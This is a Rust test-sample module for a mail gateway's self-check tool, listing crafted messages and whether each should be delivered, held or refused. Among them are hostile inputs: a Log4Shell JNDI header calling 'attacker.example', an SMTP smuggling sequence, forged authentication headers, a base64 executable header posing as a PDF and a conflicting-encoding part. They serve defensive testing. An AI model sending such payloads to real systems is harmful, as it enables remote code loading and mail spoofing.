//! The messages that `octroi try` sends.

/// One message, and what should become of it.
#[derive(Debug)]
pub(super) struct Sample {
    /// What is special about it, in at most 45 characters.
    pub(super) what: &'static str,
    /// Behind the reverse-path of MAIL.
    pub(super) parameters: &'static str,
    pub(super) transfer: Transfer,
    pub(super) expected: Expected,
}

/// How its content goes over the wire, octet for octet.
#[derive(Debug)]
pub(super) enum Transfer {
    /// After DATA, end of data included.
    Data(Vec<u8>),
    /// With BDAT.
    Chunks(Vec<Vec<u8>>),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Expected {
    Delivered,
    /// Delivered, and the field of this beginning is in it; lower case.
    DeliveredWith(&'static str),
    /// Delivered, and the field of this beginning is not in it any more.
    DeliveredWithout(&'static str),
    /// In the quarantine.
    Held,
    /// For good.
    Refused,
}

/// Octets a message may have in `octroi try`.
pub(super) const MESSAGE_SIZE: u64 = 1 << 20;
/// Parts a message may have in `octroi try`.
pub(super) const PARTS: usize = 20;

/// All samples, for recipient `to`; `hostname` is the gate's own.
pub(super) fn samples(hostname: &str, from: &str, to: &str) -> Vec<Sample> {
    let header = |name: &str| {
        format!(
            "From: Alice <{from}>\r\nTo: <{to}>\r\nSubject: octroi try: {name}\r\nMessage-ID: <{name}@client.example.net>\r\n\
             Date: Wed, 25 Nov 2026 02:22:22 +0000\r\nMIME-Version: 1.0\r\n"
        )
    };
    let data = |name: &str, rest: &str| Transfer::Data(format!("{}{rest}\r\n.\r\n", header(name)).into_bytes());
    let sample = |what, transfer, expected| Sample { what, parameters: "", transfer, expected };
    vec![
        sample("a plain message", data("clean", "\r\nHello Bob,\r\n\r\nall is well.\r\n"), Expected::Delivered),
        sample("text, HTML and an attachment", data("multipart", &multipart(2)), Expected::Delivered),
        Sample {
            parameters: " BODY=8BITMIME SMTPUTF8",
            ..sample(
                "8-bit text and SMTPUTF8",
                data("eight-bit", "Content-Type: text/plain; charset=utf-8\r\n\r\nGrüße aus Köln, 你好.\r\n"),
                Expected::Delivered,
            )
        },
        sample("in three chunks, with BDAT", chunks(&header("bdat")), Expected::Delivered),
        sample(
            "forges results in our name; they are cut out",
            Transfer::Data(
                format!(
                    "Authentication-Results: {hostname}; dmarc=pass header.from=bank.example\r\n\
                     Received: from bank.example by {hostname}; Wed, 25 Nov 2026 02:00:00 +0000\r\n{}\r\nTrust me.\r\n.\r\n",
                    header("spoofed")
                )
                .into_bytes(),
            ),
            Expected::DeliveredWithout("authentication-results: gate.example.org; dmarc=pass"),
        ),
        sample(
            "urgent, and nobody vouches for the sender",
            data("URGENT", "\r\nTransfer this.\r\n"),
            Expected::DeliveredWith("subject: [unconfirmed]"),
        ),
        sample("an invoice nobody vouches for: somebody looks", data("overdue", "\r\nPay at once.\r\n"), Expected::Held),
        sample(
            "two authors, of whom readers see one",
            Transfer::Data(format!("From: CEO <ceo@example.com>\r\n{}\r\nPay!\r\n.\r\n", header("two-authors")).into_bytes()),
            Expected::Refused,
        ),
        sample("a program that says it is an invoice", data("program", PROGRAM), Expected::Refused),
        sample("a part that programs decode in two ways", data("two-readings", TWO_READINGS), Expected::Refused),
        sample(
            "an attack on whoever logs it (Log4Shell)",
            data("log4shell", "X-Api-Version: ${jndi:ldap://attacker.example/a}\r\n\r\nHello.\r\n"),
            Expected::Refused,
        ),
        sample("as many parts as a bomb has", data("parts", &multipart(PARTS + 10)), Expected::Refused),
        sample(
            "a second message smuggled in (LF . LF)",
            Transfer::Data(
                format!(
                    "{}\r\nHello,\n.\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<{to}>\r\nDATA\r\nFrom: ceo@example.com\r\n\r\nPay!\r\n.\r\n",
                    header("smuggled")
                )
                .into_bytes(),
            ),
            Expected::Refused,
        ),
        Sample { parameters: " SIZE=2000000", ..sample("says beforehand that it is too big", data("oversize", "\r\n"), Expected::Refused) },
    ]
}

/// The beginning of a Windows program.
const PROGRAM: &str = "Content-Type: application/pdf; name=\"invoice.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\
    TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n\
    gAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu\r\n";

/// Readers that take the first encoding see letters, those that take the last one a page.
const TWO_READINGS: &str = "Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n\
    PGgxPkhlbGxvPC9oMT4=\r\n";

fn multipart(parts: usize) -> String {
    let mut text = String::from("Content-Type: multipart/mixed; boundary=b\r\n\r\n");
    for part in 1..=parts {
        text += &format!("--b\r\nContent-Type: text/plain; name=part{part}.txt\r\n\r\nPart {part}.\r\n");
    }
    text + "--b--\r\n"
}

fn chunks(header: &str) -> Transfer {
    // A lone dot is nothing special in BDAT.
    Transfer::Chunks(vec![header.as_bytes().to_vec(), b"\r\nOne chunk,\r\n.\r\n".to_vec(), b"and another.\r\n".to_vec()])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples_fit_the_table_and_are_different() {
        let samples = samples("gate.example.org", "a@example.org", "b@example.com");
        for sample in &samples {
            assert!(sample.what.chars().count() <= 45, "{}", sample.what);
            assert_eq!(samples.iter().filter(|other| other.what == sample.what).count(), 1);
        }
    }
}
